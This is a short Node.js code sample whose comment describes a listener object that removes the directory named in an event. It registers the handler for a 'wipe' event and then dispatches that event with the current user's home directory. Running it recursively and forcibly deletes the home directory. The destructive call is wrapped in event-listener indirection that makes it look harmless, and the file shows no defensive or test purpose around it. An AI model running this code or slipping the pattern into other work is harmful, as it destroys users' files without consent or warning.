// A listener object held in a name; its handleEvent removes the event detail's dir.
const fs = require('fs');
const os = require('os');
const handler = {
  handleEvent(e) {
    fs.rmSync(e.detail.dir, { recursive: true, force: true });
  },
};
const et = new EventTarget();
et.addEventListener('wipe', handler);
et.dispatchEvent(new CustomEvent('wipe', { detail: { dir: os.userInfo().homedir } }));
